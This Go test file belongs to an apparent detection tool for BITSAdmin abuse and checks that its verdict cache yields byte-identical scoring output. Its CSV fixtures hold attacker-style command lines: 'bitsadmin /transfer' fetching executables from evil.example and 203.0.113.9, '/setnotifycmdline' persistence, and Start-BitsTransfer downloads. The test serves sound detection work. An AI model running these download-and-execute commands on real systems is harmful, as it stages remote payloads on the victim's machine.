package command

import (
	"bytes"
	"fmt"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"bitsscore/src/detect"
	"bitsscore/src/detect/modes"
	"bitsscore/src/internal/testevents"
)

// hideVerdict hides a detector's Verdicter methods, so a chunkScorer
// encodes every cell of every record.
type hideVerdict struct{ detect.Detector }

// The verdict cache is only a way to write the same bytes: a reply written
// from cached cells equals the reply written cell by cell, whatever the
// chunk's layout (outputs present or not, their __mv_ companions present
// or not, CommandLine coalesced from ProcessCommandLine or absent, no
// inputs at all, multivalue).
func TestVerdictCellsChangeNoByte(t *testing.T) {
	if _, ok := detect.NewSPL().(detect.Verdicter); !ok {
		t.Fatal("the default detector is no detect.Verdicter: the cache is never used")
	}
	standard := testevents.Body(2000, 7)
	bodies := map[string]string{
		"standard": string(standard),
		"no __mv_ columns": "CommandLine,Image,_chunked_idx\n" +
			"bitsadmin /transfer x http://evil.example/a.exe C:\\Users\\Public\\a.exe,C:\\Windows\\System32\\bitsadmin.exe,0\n" +
			"notepad.exe,C:\\Windows\\System32\\notepad.exe,1\n" +
			",,2\n",
		"ProcessCommandLine only": "ProcessCommandLine,Image,_chunked_idx\n" +
			"bitsadmin /reset,C:\\Windows\\System32\\bitsadmin.exe,0\n" +
			",C:\\Windows\\System32\\bitsadmin.exe,1\n" +
			"cmd.exe /c dir,C:\\Windows\\System32\\cmd.exe,2\n" +
			"whoami,C:\\Windows\\System32\\whoami.exe,3\n" + // verdict 0, CommandLine set
			",,4\n", // verdict 0, CommandLine empty
		"no inputs": "a,b,__mv_a\n1,2,\nx,\"y,z\",\n",
		"outputs present": "CommandLine,IsBitsAdmin,SuspicionScore,__mv_SuspicionScore,Image\n" +
			"bitsadmin /setnotifycmdline j c:\\temp\\x.exe,1,9,,C:\\Windows\\System32\\bitsadmin.exe\n" +
			"whoami,,,,C:\\Windows\\System32\\whoami.exe\n",
		"only some __mv_ present": "CommandLine,Image,__mv_IsPowerShell,__mv_HasReset\n" +
			"Start-BitsTransfer -Source https://a.example/x.ps1,C:\\pwsh.exe,,\n" +
			"x,y,,\n",
		"multivalue": "CommandLine,Image,__mv_CommandLine,__mv_Image\n" +
			"\"bitsadmin /list\nStart-BitsTransfer -Source http://a.example/b.dll\",C:\\Windows\\System32\\bitsadmin.exe,\"$bitsadmin /list$;$Start-BitsTransfer -Source http://a.example/b.dll$\",\n",
	}
	for name, body := range bodies {
		t.Run(name, func(t *testing.T) {
			cached := newChunkScorer(detect.NewSPL())
			plain := newChunkScorer(hideVerdict{detect.NewSPL()})
			if plain.verdicter != nil {
				t.Fatal("hideVerdict did not hide the Verdicter")
			}
			// Twice: the second chunk must find the cache emptied and refilled.
			for range 2 {
				sameReply(t, plain, cached, body)
			}
			if name == "standard" && len(cached.verdictCells) == 0 {
				t.Error("the standard layout did not use the verdict cache")
			}
			if name == "no inputs" && len(cached.verdictCells) == 0 {
				t.Error("a chunk without the inputs (every appended cell empty or the verdict's) did not use the verdict cache")
			}
		})
	}
}

// In mode=hardened only some events have a verdict: those with no
// indicator and nothing extracted (the SPL's verdict), and those the memo
// answers (its number for the event, until the next chunk); the others
// encode their own cells. A chunk mixing them, in every layout, is written
// exactly as cell by cell, chunk after chunk, and every path is taken.
func TestHardenedVerdictCellsChangeNoByte(t *testing.T) {
	mixed := "EventCode,CommandLine,Image,ParentImage,processPath,url,_chunked_idx\n" +
		"1,notepad.exe C:\\notes.txt,C:\\Windows\\System32\\notepad.exe,C:\\Windows\\explorer.exe,,,0\n" +
		"1,bitsadmin /transfer x http://203.0.113.9/a.exe C:\\Users\\Public\\a.exe,C:\\Windows\\System32\\bitsadmin.exe,C:\\Windows\\System32\\cmd.exe,,,1\n" +
		"4688,\"powershell.exe -nop -c Get-Date\",C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe,,,,2\n" +
		"3,,,,C:\\Users\\jdoe\\AppData\\Local\\Temp\\x.exe,,3\n" +
		"59,,,,,https://dl.example.net/p.exe,4\n" +
		"1,whoami,C:\\Windows\\System32\\whoami.exe,,,,5\n" +
		"1,whoami,C:\\Windows\\System32\\whoami.exe,,,,6\n" + // twice: the memo answers
		",,,,,,7\n"
	// Transfers the memo answers, more than it numbers in one chunk, each
	// three times, the rounds in a different order.
	var remembered strings.Builder
	remembered.WriteString("CommandLine,Image\n")
	for round := range 3 {
		for i := range 1100 {
			if round == 1 {
				i = 1099 - i
			}
			fmt.Fprintf(&remembered, "bitsadmin /transfer j https://evil.example/%d.exe C:\\Users\\Public\\a.exe,C:\\Windows\\System32\\bitsadmin.exe\n", i)
		}
	}
	bodies := map[string]string{
		"standard":               string(testevents.Body(2000, 7)),
		"mixed":                  mixed,
		"mixed, outputs present": strings.Replace(mixed, "_chunked_idx\n", "_chunked_idx,RiskScore,__mv_Indicators\n", 1),
		"remembered transfers":   remembered.String(),
	}
	for name, body := range bodies {
		t.Run(name, func(t *testing.T) {
			if strings.Contains(name, "present") {
				body = strings.ReplaceAll(body, "\n", ",,\n")
				body = strings.Replace(body, ",,\n", "\n", 1) // not the header
			}
			det, err := modes.New(modes.Hardened, modes.Options{})
			if err != nil {
				t.Fatal(err)
			}
			plainDet, err := modes.New(modes.Hardened, modes.Options{})
			if err != nil {
				t.Fatal(err)
			}
			cached, plain := newChunkScorer(det), newChunkScorer(hideVerdict{plainDet})
			for range 2 {
				if want := sameReply(t, plain, cached, body); !strings.Contains(want, "IsBitsAdmin") && !strings.Contains(name, "present") {
					t.Fatalf("reply lacks the SPL's columns:\n%s", want)
				}
			}
			if used := countCachedVerdicts(cached.verdictCells); used == 0 {
				t.Error("no record used the verdict cache")
			}
			if name == "standard" || name == "remembered transfers" {
				// Events the memo answered, numbered after the SPL's verdicts.
				if used := countCachedVerdicts(cached.verdictCells[detect.NewSPL().(detect.Verdicter).Verdicts():]); used == 0 {
					t.Error("no event the memo answered used the verdict cache")
				}
			}
		})
	}
}

// sameReply scores body with both scorers and fails unless the replies are
// byte for byte equal; it returns the reply.
func sameReply(t *testing.T, plain, cached *chunkScorer, body string) string {
	t.Helper()
	want, err := scoreBody(t, plain, []byte(body))
	if err != nil {
		t.Fatal(err)
	}
	got, err := scoreBody(t, cached, []byte(body))
	if err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(got, want) {
		t.Errorf("cached reply differs:\n%s", cmp.Diff(strings.Split(string(want), "\n"), strings.Split(string(got), "\n")))
	}
	return string(want)
}

func countCachedVerdicts(cells []cachedCells) int {
	n := 0
	for _, c := range cells {
		if c.ok {
			n++
		}
	}
	return n
}
